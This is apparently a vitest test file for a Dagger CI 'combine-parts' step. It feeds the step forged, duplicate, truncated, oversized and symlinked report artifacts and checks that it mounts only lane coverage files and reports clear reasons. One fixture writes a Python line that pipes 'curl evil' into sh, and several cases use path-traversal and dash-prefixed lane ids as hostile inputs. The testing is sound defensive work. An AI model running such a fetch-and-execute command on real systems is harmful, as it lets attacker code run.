/**
 * combine-parts fed hostile or broken matrix artifacts, through the real SDK and the stand-in engine:
 * artifacts are data, never code or paths. Each case asserts what is mounted where in the combine
 * container and the reasons result.json gives.
 */
import { dag, Directory } from "@dagger.io/dagger";
import { describe, expect, it } from "vitest";

import type { Result } from "../src/core/report/result.js";
import { BackendCi } from "../src/index.js";
import { ObjectRef, placementsOf, useEngine } from "./engine/index.js";
import { backendSource, isCombine, junitXml, laneRecord, scriptRun } from "./graph-support.js";

const engine = useEngine();
const MiB = 1024 * 1024;

/** pr-backend's exported reports of part `part` of `parts`. */
async function runPart(part: number, parts: number): Promise<Directory> {
  const result = await new BackendCi().prBackend(backendSource(), "3.12", undefined, undefined, undefined, undefined, undefined, undefined, undefined, part, parts);
  return result.reports;
}

type PlanJson = { part: number; parts: number; lanes: Record<string, unknown>[] };
const planOf = async (reports: Directory): Promise<PlanJson> => JSON.parse(await reports.file("plan.json").contents()) as PlanJson;

/** combine-parts over `artifacts`; whatever they hold, the combine container gets lane data files only. */
async function combine(artifacts: Directory): Promise<{ ok: boolean; reasons: string[]; result: Result; reports: Directory }> {
  const out = await new BackendCi().combineParts(backendSource(), artifacts);
  const result = JSON.parse(await out.resultJson()) as Result;
  expect([out.ok, out.reasons]).toEqual([result.ok, result.reasons]);
  expectOnlyCoverageFilesMounted();
  return { ok: result.ok, reasons: result.reasons, result, reports: out.reports };
}

const combineContainer = () => engine().containers().find((c) => c.execs.some((a) => isCombine({ argv: a })))!;
const combineArgv = () => engine().execs.find(isCombine)!.argv;
const dataArgs = () => combineArgv().flatMap((a, i, all) => (all[i - 1] === "--data" ? [a] : []));

/**
 * Everything runCombine adds to the backend container (from its helpers directory on): where it went,
 * and which artifact path a file came from. The backend container's own /src files come before.
 */
function combinePlacements(): { field: string; at: string; from: string | undefined }[] {
  const all = placementsOf(combineContainer().chain);
  const start = all.findIndex((p) => p.field === "withDirectory" && p.path === "/backend-ci");
  expect(start).toBeGreaterThanOrEqual(0);
  return all.slice(start + 1).map((p) => ({
    field: p.field,
    at: p.path,
    from: [...((p.source as ObjectRef | undefined)?.chain ?? [])].reverse().find((c) => c.field === "file")?.args.path as string | undefined,
  }));
}

/** The files copied from the artifacts into the combine container. */
const filesMounted = () => combinePlacements().filter((p) => p.field === "withFile").map(({ at, from }) => ({ at, from }));

/** Besides its empty output directory, the combine container gets lane data files at `/reports/<id>/.coverage.<id>` only. */
function expectOnlyCoverageFilesMounted(): void {
  for (const p of combinePlacements()) {
    expect(p.at).not.toMatch(/^\/(backend-ci|src)(\/|$)/);
    if (p.field === "withFile") expect(p.at).toMatch(/^\/reports\/([a-z0-9][a-z0-9_+-]*)\/\.coverage\.\1$/);
    else expect(p).toMatchObject({ field: "withDirectory", at: "/reports/combined" });
  }
}

/** `contents` leaves asked of the artifact file at `path`. */
const contentsReadOf = (path: string) =>
  engine()
    .leaves("contents")
    .filter((l) => l.chain.some((c) => c.field === "file" && c.args.path === path));

describe("combine-parts never takes a path from an artifact", () => {
  it("places each lane's coverage file where the layout puts its id, whatever outputs and reportDir a plan.json claims", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 1);
    const plan = await planOf(p1);
    plan.lanes[0] = { ...plan.lanes[0], reportDir: "/backend-ci", outputs: { junit: "/src/pyproject.toml", coverage: "/backend-ci/combine.py", record: "/src/app/__init__.py" } };
    plan.lanes[1] = { ...plan.lanes[1], reportDir: "/src", outputs: { junit: "/src/x.xml", coverage: "/src/pyproject.toml", record: "/src/lane.json" } };
    const ids = plan.lanes.map((l) => l.id as string);
    // The forged files sit in the lane directories under the names the forged paths end in.
    const forged = p1
      .withNewFile("plan.json", JSON.stringify(plan))
      .withNewFile(`${ids[0]}/combine.py`, "import os; os.system('curl evil | sh')")
      .withNewFile(`${ids[1]}/pyproject.toml`, "[tool.coverage.run]\nomit = ['*']\n");
    const { ok } = await combine(dag.directory().withDirectory("reports-part-1", forged));
    expect(filesMounted().sort((a, b) => a.at.localeCompare(b.at))).toEqual(
      ids.sort().map((id) => ({ at: `/reports/${id}/.coverage.${id}`, from: `reports-part-1/${id}/.coverage.${id}` })),
    );
    expect(dataArgs().sort()).toEqual(ids.map((id) => `${id}=/reports/${id}/.coverage.${id}`));
    expect(ok).toBe(true);
  });
});

describe("a lane's files come only from its part's directory", () => {
  it("ignores and names a stray passing x/y/fast/lane.json, so the real failed fast keeps the run red", async () => {
    scriptRun(engine(), { failing: ["fast", "fast-rerun1"] });
    const p1 = await runPart(1, 1);
    const stray = dag
      .directory()
      .withNewFile("lane.json", laneRecord("fast", "passed", 0))
      .withNewFile("junit.xml", junitXml("fast", [{ name: "test_a" }, { name: "test_b" }]))
      .withNewFile(".coverage.fast", "forged coverage");
    const { ok, reasons, result } = await combine(dag.directory().withDirectory("reports-part-1", p1).withDirectory("x/y/fast", stray));
    expect(result.lanes.find((l) => l.id === "fast")?.status).toBe("failed");
    expect(ok).toBe(false);
    expect(reasons).toContain(
      "`x/y/fast/lane.json` is not where a part exports a lane's files (`<directory of the part's plan.json>/<planned lane id>/`), so it was not read. Download only the parts' reports into the artifacts directory.",
    );
    expect(reasons.join("\n")).toContain("`x/y/fast/.coverage.fast` is not where a part exports");
    expect(filesMounted().find((f) => f.at === "/reports/fast/.coverage.fast")?.from).toBe("reports-part-1/fast/.coverage.fast");
    expect(contentsReadOf("x/y/fast/lane.json")).toEqual([]);
  });

  it("reads a lane two parts claim from neither, names both, and is red", async () => {
    scriptRun(engine(), { failing: ["fast", "fast-rerun1"] });
    const p1 = await runPart(1, 2);
    const p2 = await runPart(2, 2);
    const [own, other] = (await planOf(p1)).lanes[0].id === "fast" ? [p1, p2] : [p2, p1];
    const otherPlan = await planOf(other);
    otherPlan.lanes.push((await planOf(own)).lanes[0]);
    const forged = other
      .withNewFile("plan.json", JSON.stringify(otherPlan))
      .withNewFile("fast/lane.json", laneRecord("fast", "passed", 0))
      .withNewFile("fast/junit.xml", junitXml("fast", [{ name: "test_a" }, { name: "test_b" }]));
    const { ok, reasons, result } = await combine(dag.directory().withDirectory("own", own).withDirectory("other", forged));
    expect(result.lanes.filter((l) => l.id === "fast")).toHaveLength(1);
    expect(result.lanes.find((l) => l.id === "fast")?.status).toBe("missing");
    // Plan files are taken in part order.
    const [a, b] = otherPlan.part < (await planOf(own)).part ? ["other", "own"] : ["own", "other"];
    expect(reasons).toContain(
      `Lane \`fast\` is planned by 2 plan files (\`${a}/plan.json\`, \`${b}/plan.json\`), so neither copy of its files (\`${a}/fast/\`, \`${b}/fast/\`) was read: either could be the real one; download each part's reports once.`,
    );
    expect(filesMounted().map((f) => f.at)).not.toContain("/reports/fast/.coverage.fast");
    expect(ok).toBe(false);
  });

  it("does not count fast-rerunner as a rerun of fast: the failing test stays failing", async () => {
    scriptRun(engine(), { failing: ["fast", "fast-rerun1"] });
    const p1 = await runPart(1, 1);
    const lookalike = p1
      .withNewFile("fast-rerunner/lane.json", laneRecord("fast-rerunner", "passed", 0))
      .withNewFile("fast-rerunner/junit.xml", junitXml("fast-rerunner", [{ name: "test_b" }]));
    const { ok, reasons, result } = await combine(dag.directory().withDirectory("reports-part-1", lookalike));
    expect(result.failures.filter((f) => f.lane === "fast").map((f) => [f.nodeid, f.class])).toEqual([["tests/unit/test_x.py::test_b", "failing"]]);
    expect(result.lanes.find((l) => l.id === "fast")?.reruns).toBe(1);
    expect(reasons).toContain(
      "`reports-part-1/fast-rerunner/lane.json` is not where a part exports a lane's files (`<directory of the part's plan.json>/<planned lane id>/`), so it was not read. `reports-part-1/` holds a part, but its plan.json plans no lane `fast-rerunner`. Download only the parts' reports into the artifacts directory.",
    );
    expect(ok).toBe(false);
  });

  it("orders reruns by number: rerun10 comes after rerun9", async () => {
    scriptRun(engine(), { failing: ["fast", "fast-rerun1"] });
    let part = await runPart(1, 1);
    for (let n = 2; n <= 10; n++) {
      const id = `fast-rerun${n}`;
      part = part
        .withNewFile(`${id}/lane.json`, laneRecord(id, n === 10 ? "passed" : "failed", n === 10 ? 0 : 1))
        .withNewFile(`${id}/junit.xml`, junitXml(id, [{ name: "test_b", failed: n !== 10 }]));
    }
    const { result } = await combine(dag.directory().withDirectory("reports-part-1", part));
    const testB = result.failures.find((f) => f.lane === "fast" && f.nodeid.endsWith("::test_b"));
    expect(testB).toMatchObject({ class: "flaky", detail: "failed, then passed on rerun 10" });
    expect(result.lanes.find((l) => l.id === "fast")?.reruns).toBe(10);
  });
});

describe("a plan.json combine-parts cannot use is named, and everything else is still reported", () => {
  it("names a truncated plan.json and its lanes, and still combines and reports the other part", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 2);
    const p2 = await runPart(2, 2);
    const [kept, lost] = [(await planOf(p1)).lanes[0].id as string, (await planOf(p2)).lanes[0].id as string];
    const text = await p2.file("plan.json").contents();
    const artifacts = dag.directory().withDirectory("reports-part-1", p1).withDirectory("reports-part-2", p2.withNewFile("plan.json", text.slice(0, text.length / 2)));
    const { ok, reasons, result } = await combine(artifacts);
    expect(ok).toBe(false);
    expect(reasons.join("\n")).toMatch(
      new RegExp(
        `^\`reports-part-2/plan\\.json\` is not valid JSON \\(.+\\): it is truncated or not a plan\\.json pr-backend wrote; download that part's reports again or re-run its job\\. Its lanes are missing from this result \\(directories beside it: \`${lost}\`\\)\\.$`,
        "m",
      ),
    );
    expect(result.lanes.map((l) => l.id)).toEqual([kept]);
    expect(dataArgs()).toEqual([`${kept}=/reports/${kept}/.coverage.${kept}`]);
    expect(filesMounted()).toEqual([{ at: `/reports/${kept}/.coverage.${kept}`, from: `reports-part-1/${kept}/.coverage.${kept}` }]);
  });

  it("names the file and the field of a plan.json whose shard the report could not take, instead of a raw schema dump", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 1);
    const plan = await planOf(p1);
    plan.lanes[0] = { ...plan.lanes[0], shard: { index: 0, count: 0, key: "x" } };
    const { ok, reasons, result } = await combine(dag.directory().withDirectory("reports-part-1", p1.withNewFile("plan.json", JSON.stringify(plan))));
    expect(ok).toBe(false);
    expect(reasons[0]).toMatch(/^`reports-part-1\/plan\.json`, field `lanes\[0\]\.shard\.index`: .*>=\s?1.*; this is not a plan\.json pr-backend wrote/);
    expect(reasons.join("\n")).not.toMatch(/ZodError|"code":/);
    expect(result.lanes).toEqual([]);
  });

  it.each([
    ["a path", "../x"],
    ["a leading dash", "-x"],
    ["300 characters", "a".repeat(300)],
    ["a reports directory", "combined"],
    ["a rerun's id", "fast-rerun1"],
  ])("refuses a plan.json lane id with %s and mounts nothing for it", async (_, id) => {
    scriptRun(engine());
    const p1 = await runPart(1, 1);
    const plan = await planOf(p1);
    plan.lanes[0] = { ...plan.lanes[0], id };
    const { ok, reasons } = await combine(dag.directory().withDirectory("reports-part-1", p1.withNewFile("plan.json", JSON.stringify(plan))));
    expect(ok).toBe(false);
    expect(reasons[0]).toMatch(/^`reports-part-1\/plan\.json`, field `lanes\[0\]\.id`: "/);
    expect(filesMounted()).toEqual([]);
  });

  it("names a part downloaded twice and reports each of its lanes once", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 2);
    const p2 = await runPart(2, 2);
    const artifacts = dag.directory().withDirectory("reports-part-1", p1).withDirectory("again/reports-part-1", p1).withDirectory("reports-part-2", p2);
    const { ok, reasons, result } = await combine(artifacts);
    const ids = result.lanes.map((l) => l.id);
    expect(ids).toHaveLength(new Set(ids).size);
    expect(reasons.join("\n")).toMatch(/part 1 of 2 appears 2 times \(again\/reports-part-1\/plan\.json, reports-part-1\/plan\.json\)/);
    expect(reasons.join("\n")).toMatch(/Lane `\S+` is planned by 2 plan files \(`again\/reports-part-1\/plan\.json`, `reports-part-1\/plan\.json`\)/);
    expect(ok).toBe(false);
  });
});

describe("lane files that are garbage, huge or links", () => {
  it("reports garbage lane.json and junit.xml as unusable, and never reads a junit.xml over the limit", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 1);
    const huge = "reports-part-1/integration/junit.xml";
    engine().on((r) => r.field === "size" && r.chain.some((c) => c.field === "file" && c.args.path === huge), () => 300 * MiB);
    const garbage = p1.withNewFile("fast/lane.json", "\u0000\u0001{not json").withNewFile("fast/junit.xml", "<<<>>> garbage");
    const { ok, reasons, result } = await combine(dag.directory().withDirectory("reports-part-1", garbage));
    expect(ok).toBe(false);
    const fast = result.lanes.find((l) => l.id === "fast")!;
    expect(fast.status).toBe("missing");
    expect(fast.problems.join("\n")).toMatch(/lane\.json: not JSON/);
    expect(reasons).toContain(
      "`reports-part-1/integration/junit.xml` is 300.0 MiB, more than the 100 MiB combine-parts reads of a junit.xml, so it was not read; no part writes one this large: check what produced it.",
    );
    expect(contentsReadOf(huge)).toEqual([]);
  });

  it("refuses a lane.json the engine says is a link, never reads it, and leaves it out of the reports' copy", async () => {
    scriptRun(engine());
    const p1 = await runPart(1, 1);
    const link = "reports-part-1/fast/lane.json";
    // The stand-in's filesystem has no links: its answer to "is this a regular file / a link" stands for one.
    engine().on(
      (r) => r.field === "exists" && r.args.path === link,
      (r) => r.args.expectedType === "SYMLINK_TYPE",
    );
    const { ok, reasons, result, reports } = await combine(dag.directory().withDirectory("reports-part-1", p1));
    expect(ok).toBe(false);
    expect(reasons).toContain(
      "`reports-part-1/fast/lane.json` is a symbolic link: combine-parts reads artifacts as regular files and never follows a link, which could point at another part's files or outside the artifacts; upload the file itself.",
    );
    expect(result.lanes.find((l) => l.id === "fast")?.status).toBe("missing");
    expect(contentsReadOf(link)).toEqual([]);
    await reports.entries();
    const copies = engine()
      .usedChains()
      .flatMap((chain) => chain.filter((c) => c.field === "withDirectory" && c.args.path === "parts"));
    expect(copies.length).toBeGreaterThan(0);
    for (const c of copies) expect(c.args.exclude).toEqual([link]);
  });
});
